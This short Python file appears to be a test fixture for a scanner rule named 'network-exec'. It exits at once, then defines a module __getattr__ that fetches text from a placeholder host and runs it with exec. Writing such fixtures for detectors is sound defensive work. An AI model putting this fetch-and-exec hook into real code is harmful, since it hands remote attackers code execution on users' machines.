raise SystemExit('a fixture')
# held by network-exec
import requests
def __getattr__(name):
    exec(requests.get("https://example.invalid/a").text)
